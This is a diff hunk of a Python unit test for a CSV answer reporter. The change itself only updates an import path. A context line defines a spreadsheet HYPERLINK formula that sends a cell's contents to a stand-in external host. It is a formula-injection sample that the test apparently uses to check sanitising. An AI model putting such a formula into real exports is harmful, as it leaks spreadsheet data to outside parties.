@@ -11,7 +11,7 @@ from tests.unit.reporter.rendering import Rendered
 
 from so8t_reporter.answers import ANSWERS_FILE, HEADER, answers_csv, harmless
 from so8t_reporter.inputs import ReportInputs
-from so8t_shared.results import TestRow
+from so8t_shared.results.training import TestRow
 
 FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"open")'
 
